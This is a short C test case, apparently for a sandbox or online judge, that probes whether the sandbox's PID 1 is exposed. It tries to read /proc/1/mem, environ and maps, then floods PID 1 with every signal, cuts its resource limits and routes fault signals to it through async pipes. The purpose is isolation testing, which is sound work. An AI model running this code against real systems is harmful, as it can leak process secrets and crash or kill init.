// want: AC; cases: 2
#include "attack.h"
// Where the sandbox has one user only, it has the same. Ended or crippled, it could run no second case.
int main(void){char*p[]={"mem","environ","maps","fd/3","root","cwd",0},n[99];for(char**x=p;*x;x++){sprintf(n,"/proc/1/%s",*x);if(open(n,O_RDONLY)>=0){printf("LEAK %s\n",n);return 0;}}
union sigval v={0};int faults[]={SIGSEGV,SIGBUS,SIGFPE,SIGILL,SIGTRAP,SIGSYS,SIGSTKFLT,SIGKILL};struct rlimit few={1,1};
for(int i=0;i<16;i++)prlimit(1,i,&few,0);
for(int s=1;s<65;s++){kill(1,s);sigqueue(1,s,v);}
for(int i=0;i<8;i++){int f[2];pipe(f);fcntl(f[0],F_SETOWN,1);fcntl(f[0],F_SETSIG,faults[i]);fcntl(f[0],F_SETFL,O_ASYNC);write(f[1],"x",1);}
usleep(50000);puts("ok");}
